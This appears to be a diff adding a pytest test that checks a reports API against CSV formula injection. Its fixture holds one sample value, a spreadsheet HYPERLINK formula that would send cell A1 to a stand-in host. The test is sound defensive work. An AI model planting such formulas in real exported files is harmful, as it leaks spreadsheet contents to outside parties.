@@ -111,6 +111,21 @@ def test_every_report_has_its_columns_as_json_and_as_csv_and_they_are_documented
         assert f"{value}" in DOCUMENT, name
 
 
+@pytest.fixture
+def formula(monkeypatch):
+    """Let there be an object whose key a spreadsheet would run."""
+    key = '=HYPERLINK("http://a/?"&A1;"Open")'
+    monkeypatch.setitem(WAYS, key, [(0, 9.0), (4, 11.0), (8, 15.0)])
+    return key
+
+
+def test_a_key_that_a_feed_sent_as_a_formula_is_a_text_in_csv_and_itself_in_json(formula, ask, client):
+    assert formula in {row["key"] for row in ask(bbox="10,0,14,1")["rows"]}
+    response = client.get("/reports/ships", SPAN | {"bbox": "10,0,14,1", "format": "csv", "gap_s": 600})
+    keys = {row["key"] for row in csv.DictReader(io.StringIO(response.content.decode()))}
+    assert f"'{formula}" in keys and formula not in keys
+
+
 def _text(value):
     return str(value).lower() if isinstance(value, bool) else str(value)
 
